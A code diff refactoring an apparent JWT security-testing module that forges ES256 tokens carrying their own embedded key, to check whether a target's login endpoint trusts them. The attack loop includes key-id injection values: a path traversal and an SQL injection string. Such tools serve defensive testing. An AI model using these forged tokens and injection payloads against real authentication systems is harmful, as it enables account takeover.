@@ -1,12 +1,10 @@
 """Tokens that bring the key along which verifies them."""
 
-from cryptography.hazmat.primitives import hashes
 from cryptography.hazmat.primitives.asymmetric import ec
-from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
 
 from ..attack import Attack
 from ..attacker import Attacker
-from ..forge import encode, header_of, segment
+from ..forge import encode, header_of, segment, sign_es256
 from ..verdict import Verdict, held, not_applicable, succeeded
 
 
@@ -22,7 +20,7 @@ def _run(attacker: Attacker) -> Verdict:
     for trick in tricks:
         for kid in (header.get("kid"), "../../dev/null", "' or 1=1 --", elsewhere, None):
             head = segment(header | {"alg": "ES256", "kid": kid} | trick)
-            if target.me(login, f"{head}.{payload}.{_sign(key, f'{head}.{payload}')}").accepted:
+            if target.me(login, f"{head}.{payload}.{sign_es256(key, f'{head}.{payload}')}").accepted:
                 return succeeded(f"A token was believed for the {', '.join(trick)} in its header.")
     return held("No key that a token named or brought along was believed.")
 
@@ -31,11 +29,6 @@ def _jwk(key: ec.EllipticCurvePrivateKey) -> dict[str, str]:
     numbers = key.public_key().public_numbers()
     x, y = (encode(each.to_bytes(32, "big")) for each in (numbers.x, numbers.y))
     return {"kty": "EC", "crv": "P-256", "x": x, "y": y}
-
-
-def _sign(key: ec.EllipticCurvePrivateKey, message: str) -> str:
-    r, s = decode_dss_signature(key.sign(message.encode(), ec.ECDSA(hashes.SHA256())))
-    return encode(r.to_bytes(32, "big") + s.to_bytes(32, "big"))
 
 
 ATTACK = Attack(
